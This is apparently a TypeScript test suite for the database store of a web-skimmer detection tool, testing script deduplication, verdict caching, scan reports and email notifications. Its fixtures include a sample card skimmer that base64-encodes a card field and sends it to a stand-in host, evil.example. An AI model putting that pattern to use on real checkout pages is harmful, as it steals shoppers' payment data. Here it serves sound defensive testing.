// The same store suite against real PostgreSQL (own schema) and embedded PGlite (temp dir).
import { mkdtemp, rm } from 'node:fs/promises'
import net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import pg from 'pg'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { loadConfig } from '../../core/config.ts'
import { ServiceUnavailableError } from '../../core/errors.ts'
import { sha256 } from '../../core/hash.ts'
import type { CapturedScript, Observation, PageCapture, ScriptVerdict } from '../../core/types.ts'
import { openStore, type Store, type StoreOptions } from '../../store/index.ts'

// a missing server must fail this suite, never skip it
const DATABASE_URL = loadConfig().databaseUrl ?? 'postgres://postgres@127.0.0.1:5432/test'

function script(source: string, extra: Partial<CapturedScript> = {}): CapturedScript {
  return {
    sha256: sha256(source),
    url: `https://cdn.example/${sha256(source).slice(0, 8)}.js`,
    kind: 'external',
    source,
    pageUrl: 'https://shop.example/checkout',
    ...extra,
  }
}

const jquery = script('/* jquery */ window.$ = function () {}')
const skimmer = script('fetch("https://evil.example/c?d="+btoa(card.value))', {
  url: 'https://evil.example/a.js',
})
const evalChild = script('card.value', {
  url: null,
  kind: 'eval',
  parentSha256: skimmer.sha256,
})

function capture(scripts: CapturedScript[], startedAt = '2026-11-23T10:00:00.000Z'): PageCapture {
  return {
    url: 'https://shop.example/',
    finalUrl: 'https://shop.example/checkout',
    status: 'ok',
    reason: null,
    startedAt,
    durationMs: 1234,
    visited: ['https://shop.example/', 'https://shop.example/checkout'],
    filledCard: true,
    scripts,
    requests: [
      {
        url: 'https://evil.example/c?d=NDExMQ==',
        method: 'GET',
        type: 'image',
        body: null,
        carriesCard: true,
        carriesPersonal: false,
        thirdParty: true,
        script: skimmer.sha256,
      },
      {
        url: 'https://shop.example/api',
        method: 'POST',
        type: 'fetch',
        body: '{"q":1}',
        carriesCard: false,
        carriesPersonal: true,
        thirdParty: false,
        script: null,
      },
    ],
    cardReaders: [skimmer.sha256],
    platform: { name: 'magento', version: '2.4' },
  }
}

function verdict(
  s: CapturedScript,
  v: ScriptVerdict['verdict'],
  rulesVersion = 'r1',
): ScriptVerdict {
  return {
    sha256: s.sha256,
    verdict: v,
    score: v === 'clean' ? 0 : 90,
    rulesVersion,
    findings:
      v === 'clean'
        ? []
        : [
            {
              rule: 'card-read-and-send',
              severity: 'critical',
              message: 'reads the card field and sends it',
              line: 1,
              column: 7,
              snippet: 'fetch("https://evil.example/c?d="',
              points: 60,
            },
            {
              rule: 'btoa-payload',
              severity: 'medium',
              message: 'base64',
              line: 1,
              column: 40,
              points: 30,
            },
          ],
  }
}

function storeSuite(
  name: string,
  open: () => Promise<{ store: Store; cleanup: () => Promise<void> }>,
) {
  describe(name, () => {
    let store: Store
    let cleanup: () => Promise<void> = async () => {}
    let openError: unknown = null

    beforeAll(async () => {
      try {
        ;({ store, cleanup } = await open())
      } catch (err) {
        openError = err
      }
    })
    // a failing beforeAll only skips tests; failing each test makes a missing database a red run
    beforeEach(() => {
      if (openError) throw openError
    })
    afterAll(async () => {
      await store?.close()
      await cleanup()
    })

    it('adds sites, lowercases domains and merges duplicates', async () => {
      const first = await store.addSites([
        { domain: 'Shop.Example', url: 'https://shop.example/' },
        { domain: 'other.example', url: 'https://other.example/' },
        { domain: 'shop.example', url: 'https://shop.example/again' },
      ])
      expect(first).toEqual({ added: 2, merged: 1 })
      const again = await store.addSites([{ domain: 'OTHER.example', url: 'https://x/' }])
      expect(again).toEqual({ added: 0, merged: 1 })
      const sites = await store.listSites()
      expect(sites.map((s) => s.domain)).toEqual(['shop.example', 'other.example'])
      const shop = sites[0]!
      expect(shop).toMatchObject({ url: 'https://shop.example/', platform: null })
      expect(typeof shop.id).toBe('number')
      expect(new Date(shop.createdAt).toISOString()).toBe(shop.createdAt)
      expect(await store.getSite(shop.id)).toEqual(shop)
      expect(await store.getSite(999_999)).toBeNull()
      await store.setSitePlatform(shop.id, 'magento')
      expect((await store.getSite(shop.id))?.platform).toBe('magento')
    })

    it('stores each script once per sha256 and round-trips the raw capture', async () => {
      const [shop] = await store.listSites()
      const before = await store.countScripts()
      const raw = capture([jquery, skimmer, evalChild, jquery])
      const first = await store.saveCapture(shop!.id, raw)
      expect(await store.countScripts()).toBe(before + 3)
      const second = await store.saveCapture(shop!.id, capture([skimmer, jquery]))
      expect(second).toBeGreaterThan(first)
      expect(await store.countScripts()).toBe(before + 3)

      const back = await store.getCapture(first)
      expect(back).toEqual({ ...raw, scanId: first, siteId: shop!.id })
      expect(back?.scripts[2]?.parentSha256).toBe(skimmer.sha256)
      expect(await store.getCapture(999_999)).toBeNull()
      expect(await store.getScriptSource(skimmer.sha256)).toBe(skimmer.source)
    })

    it('keeps the walk with the capture, with a screenshot beside each step', async () => {
      const image = Buffer.from(Array.from({ length: 300 }, (_, i) => i % 256)).toString('base64')
      const raw: PageCapture = {
        ...capture([skimmer]),
        walk: {
          steps: [
            { name: 'home', url: 'https://shop.example/', passed: true, screenshot: image },
            {
              name: 'checkout step 1',
              url: 'https://shop.example/checkout',
              passed: false,
              reason: 'validation: required',
            },
          ],
          clicked: ['Next'],
          fillRounds: 2,
          pageTimeMs: 60_000,
          roundsMs: 1800,
          stepsMs: 950,
          addedToCart: true,
          stop: 'paid and left the page',
        },
      }
      const id = await store.saveCapture(null, raw)
      expect(await store.getCapture(id)).toEqual({ ...raw, scanId: id, siteId: null })
    })

    it('saves captures concurrently that share a new script', async () => {
      const shared = Array.from({ length: 20 }, (_, i) => script(`/* shared ${name} ${i} */`))
      const reversed = [...shared].reverse()
      const before = await store.countScripts()
      const ids = await Promise.all(
        [shared, reversed, shared, reversed].map((s) => store.saveCapture(null, capture(s))),
      )
      expect(new Set(ids).size).toBe(4)
      expect(await store.countScripts()).toBe(before + 20)
      // verdict writers racing over the same scripts in opposite orders must not deadlock
      const judged = (s: CapturedScript[]) => s.map((x) => verdict(x, 'suspicious', 'race'))
      await Promise.all(
        ids.map((id, i) =>
          store.saveVerdicts(
            id,
            { verdict: 'suspicious', reasons: [] },
            judged(i % 2 ? reversed : shared),
          ),
        ),
      )
      expect((await store.getScanResult(ids[1]!))?.scripts.map((v) => v.sha256)).toEqual(
        reversed.map((s) => s.sha256),
      )
    })

    it('saves verdicts idempotently and serves them from the cache', async () => {
      const scanId = await store.saveCapture(null, capture([jquery, skimmer]))
      expect(await store.getScanResult(scanId)).toBeNull()
      const page = { verdict: 'malicious' as const, reasons: ['card sent to evil.example'] }
      const scripts = [verdict(jquery, 'clean'), verdict(skimmer, 'malicious')]
      await store.saveVerdicts(scanId, page, scripts)
      await store.saveVerdicts(scanId, page, scripts)
      expect(await store.getScanResult(scanId)).toEqual({ page, scripts })
      expect(await store.cachedVerdict(skimmer.sha256, 'r1')).toEqual(scripts[1])
      expect((await store.cachedVerdict(skimmer.sha256, 'r1'))?.findings).toHaveLength(2)
      expect(await store.cachedVerdict(skimmer.sha256, 'r2')).toBeNull()
      expect(await store.cachedVerdict('0'.repeat(64), 'r1')).toBeNull()
    })

    it('keeps the first detonation observation per key and serves it back', async () => {
      const key = `${skimmer.sha256}-r1-c1`
      expect(await store.getObservation(key)).toBeNull()
      const obs = {
        status: 'ok',
        requests: [
          { url: 'https://evil.example/c', method: 'GET', type: 'image', carriesCard: true },
        ],
      } as unknown as Observation
      await store.putObservation(key, obs)
      await store.putObservation(key, { ...obs, status: 'budget' })
      expect(await store.getObservation(key)).toEqual(obs)
    })

    it('reports one line per site from its latest scan', async () => {
      const [shop, other] = await store.listSites()
      const old = await store.saveCapture(shop!.id, capture([jquery], '2026-11-20T00:00:00.000Z'))
      await store.saveVerdicts(old, { verdict: 'clean', reasons: [] }, [verdict(jquery, 'clean')])
      const latest = await store.saveCapture(
        shop!.id,
        capture([jquery, skimmer, evalChild], '2026-11-23T11:00:00.000Z'),
      )
      await store.saveVerdicts(latest, { verdict: 'malicious', reasons: ['exfil'] }, [
        verdict(jquery, 'clean'),
        verdict(skimmer, 'malicious'),
        verdict(evalChild, 'suspicious'),
      ])
      expect(await store.latestScanIds()).toContain(latest)
      expect(await store.latestScanIds()).not.toContain(old)

      const email = await store.enqueueEmail({
        key: `report-${name}`,
        siteId: shop!.id,
        scanId: latest,
        to: ['security@shop.example'],
        subject: 's',
        text: 't',
        html: '<p>h</p>',
      })
      await store.deliverEmail(email.id, async () => ({
        kind: 'sent',
        path: null,
        messageId: '<m@x>',
      }))

      const lines = await store.report()
      expect(lines.map((l) => l.domain)).toEqual(['other.example', 'shop.example'])
      const line = lines.find((l) => l.domain === 'shop.example')!
      expect(line).toEqual({
        domain: 'shop.example',
        lastScanAt: '2026-11-23T11:00:00.000Z',
        verdict: 'malicious',
        flaggedScripts: [skimmer.sha256, evalChild.sha256].sort(),
        notifiedAt: expect.any(String),
        scanError: null,
      })
      expect(lines.find((l) => l.domain === other!.domain)).toEqual({
        domain: 'other.example',
        lastScanAt: null,
        verdict: null,
        flaggedScripts: [],
        notifiedAt: null,
        scanError: null,
      })

      // a visit that never completed is not a clean bill of health
      const failed = {
        ...capture([]),
        status: 'error' as const,
        reason: 'net::ERR_NAME_NOT_RESOLVED',
      }
      const failedScan = await store.saveCapture(other!.id, failed)
      await store.saveVerdicts(failedScan, { verdict: 'clean', reasons: [] }, [])
      expect((await store.report()).find((l) => l.domain === other!.domain)).toMatchObject({
        verdict: null,
        scanError: 'net::ERR_NAME_NOT_RESOLVED',
      })
    })

    it('enqueues an email once per key, even when retried', async () => {
      const msg = {
        key: `k-${name}`,
        siteId: null,
        scanId: null,
        to: ['security@shop.example', 'webmaster@shop.example'],
        subject: '[skimwatch] test',
        text: 'plain',
        html: '<p>html</p>',
      }
      const a = await store.enqueueEmail(msg)
      const b = await store.enqueueEmail({ ...msg, subject: 'changed' })
      expect(a.created).toBe(true)
      expect(b).toEqual({ id: a.id, created: false })
      const pending = (await store.pendingEmails()).filter((e) => e.key === msg.key)
      expect(pending).toHaveLength(1)
      expect(pending[0]).toMatchObject({
        to: msg.to,
        subject: msg.subject,
        status: 'pending',
        sentAt: null,
      })

      // two senders at once: the second waits for the first and finds the email sent
      let sends = 0
      let release: () => void = () => {}
      let holding: () => void = () => {}
      const inFlight = new Promise<void>((resolve) => (release = resolve))
      const held = new Promise<void>((resolve) => (holding = resolve))
      const first = store.deliverEmail(a.id, async () => {
        sends++
        holding()
        await inFlight
        return { kind: 'retry', error: '451 try later' }
      })
      // the second starts only once the first holds the email, as the test means to show
      await held
      const second = store.deliverEmail(a.id, async () => {
        sends++
        return { kind: 'sent', path: '/tmp/x.eml', messageId: '<id@x>' }
      })
      release()
      const results = await Promise.all([first, second])
      expect(results.map((r) => r.status)).toEqual(['failed', 'sent'])
      expect(sends).toBe(2)
      const sent = await store.getEmail(a.id)
      expect(sent).toMatchObject({
        status: 'sent',
        attempts: 2,
        path: '/tmp/x.eml',
        messageId: '<id@x>',
      })
      expect(sent?.sentAt).toEqual(expect.any(String))
      expect((await store.pendingEmails()).some((e) => e.key === msg.key)).toBe(false)
      const again = await store.deliverEmail(a.id, () => {
        throw new Error('a sent email must not be sent again')
      })
      expect(again).toEqual({ status: 'sent', outcome: null })
    })
  })
}

storeSuite('PostgreSQL', async () => {
  const schema = `sw_test_${process.pid}_${Date.now()}`
  const opts: StoreOptions = { databaseUrl: DATABASE_URL, home: os.tmpdir(), schema }
  const store = await openStore(opts)
  // a second open of the same schema finds every migration applied
  await (await openStore(opts)).close()
  return {
    store,
    cleanup: async () => {
      const client = new pg.Client({ connectionString: DATABASE_URL })
      await client.connect()
      await client.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`)
      await client.end()
    },
  }
})

storeSuite('PGlite', async () => {
  const home = await mkdtemp(path.join(os.tmpdir(), 'sw-store-'))
  const store = await openStore({ home })
  return { store, cleanup: () => rm(home, { recursive: true, force: true }) }
})

describe('openStore errors', () => {
  it('says how to fix an unreachable PostgreSQL', async () => {
    const port = await closedPort()
    const err = await openStore({
      databaseUrl: `postgres://postgres@127.0.0.1:${port}/test`,
      home: os.tmpdir(),
    }).catch((e: unknown) => e)
    expect(err).toBeInstanceOf(ServiceUnavailableError)
    expect((err as Error).message).toContain(`cannot reach PostgreSQL at 127.0.0.1:${port}`)
    expect((err as Error).message).toContain('unset DATABASE_URL')
  })
})

/** A loopback port nobody listens on: bind, read the port, close. */
async function closedPort(): Promise<number> {
  const server = net.createServer()
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as net.AddressInfo
  await new Promise((resolve) => server.close(resolve))
  return port
}
